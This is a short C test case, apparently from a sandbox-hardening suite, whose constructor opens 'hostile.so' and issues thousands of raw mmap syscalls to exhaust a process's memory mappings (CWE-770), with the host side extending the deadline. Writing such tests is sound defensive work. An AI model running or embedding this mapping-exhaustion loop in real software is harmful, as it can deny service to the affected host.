/* Tries: to use up the mappings that a process may have, in a constructor
 * From: CWE-770; max_map_count
 * Observed: The number of the host's mappings, from outside.
 * Needs: linux, load
 * Run: constructor */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    char path[128];
    strcpy(path, at->path);
    strcpy(strrchr(path, '/'), "/hostile.so");
    int file = (int)kernel3(SYS_open, ADDRESS(path), 0, 0);
    /* A page of a file, a page of memory, and so on. */
    for (int i = 0; i < 4000; i++)
        if (kernel6(SYS_mmap, 0, 4096, 1, 2, (uint64_t)file, (uint64_t)(i % 2) * 4096) < 0 ||
            kernel6(SYS_mmap, 0, 4096, 3, 0x22, -1, 0) < 0)
            break;
    kernel3(SYS_close, (uint64_t)file, 0, 0);
    return 0;
}
#endif

#ifdef ATTACK_HOST
/* The clock is not to be what ends it. */
HOST(before)
{
    host->deadline_ms = 6000;
}
#endif
